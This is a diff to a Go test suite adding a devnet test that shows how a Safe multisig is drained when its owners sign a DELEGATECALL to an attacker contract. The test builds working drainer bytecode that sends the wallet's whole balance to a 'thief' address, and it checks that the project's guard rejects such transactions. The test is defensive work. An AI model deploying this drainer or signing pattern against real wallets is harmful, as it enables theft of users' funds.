@@ -338,6 +338,36 @@ func TestOnDevnet(t *testing.T) {
 		}
 	})
 
+	// What Calls refuses, and why: owners who sign a DELEGATECALL they
+	// did not build (Bybit 2025: the interface showed a plain call) hand
+	// the Safe to its target's code. Here it is 34 bytes that send the
+	// Safe's whole balance to a thief, with value 0 and no data in the
+	// SafeTx the owners sign.
+	t.Run("SignedDelegateCallDrains", func(t *testing.T) {
+		thief := common.HexToAddress("0x00000000000000000000000000000000000bad01")
+		runtime := append(append([]byte{0x60, 0, 0x60, 0, 0x60, 0, 0x60, 0, 0x47, 0x73}, thief[:]...), 0x5a, 0xf1, 0x50, 0x00)
+		initCode := append([]byte{0x60, byte(len(runtime)), 0x80, 0x60, 0x0b, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3}, runtime...)
+		r, err := c.Send(ctx, b.gas, eth.Tx{Data: initCode})
+		if err != nil {
+			t.Fatal(err)
+		}
+		drainer := r.ContractAddress
+		victim := b.newSafe(d, b.cfg, 2, ether(4_00))
+		tx := &SafeTx{To: drainer, Operation: OpDelegateCall, Nonce: b.nonce(victim)}
+		if _, err := Calls(tx, d.MultiSendCallOnly); !errors.Is(err, ErrDelegateCall) {
+			t.Fatalf("Calls = %v; want ErrDelegateCall", err)
+		}
+		if _, err := d.Exec(ctx, c, b.gas, victim, tx, b.signFor(d, victim, tx), 0); err != nil {
+			t.Fatal(err)
+		}
+		if got := b.balance(thief); got.Cmp(ether(4_00)) != 0 {
+			t.Fatalf("the thief got %s wei; want the Safe's 4 ETH", got)
+		}
+		if got := b.balance(victim); got.Sign() != 0 {
+			t.Fatalf("the Safe kept %s wei", got)
+		}
+	})
+
 	t.Run("BatchGas", func(t *testing.T) { b.batchGas(t, safe) })
 }
 
